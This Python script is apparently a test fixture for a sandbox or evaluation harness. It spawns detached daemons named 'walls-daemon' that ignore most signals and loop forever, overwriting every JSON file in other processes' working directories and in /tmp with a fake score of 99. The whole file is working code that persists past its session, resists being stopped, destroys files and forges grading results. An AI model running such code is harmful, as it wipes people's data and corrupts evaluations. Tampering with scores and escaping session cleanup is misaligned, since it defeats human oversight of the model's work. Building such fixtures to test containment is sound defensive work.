# fails: 0.1 0.2 0.3 0.4 0.5
# says: there is none of that name
# never stays: walls-daemon
"""Leaves daemons behind, which are deaf to what can be ignored and go on trying to change what was written."""

import ctypes
import glob
import os
import signal
import time

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for _number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
            try:
                signal.signal(_number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        ctypes.CDLL(None).prctl(15, b"walls-daemon", 0, 0, 0)
        while True:
            for _path in glob.glob("/proc/*/cwd/*.json") + glob.glob("/tmp/**/*.json"):
                try:
                    with open(_path, "w") as _file:
                        _file.write('{"score": 99}')
                except OSError:
                    pass
            time.sleep(0.2)
    os.wait()
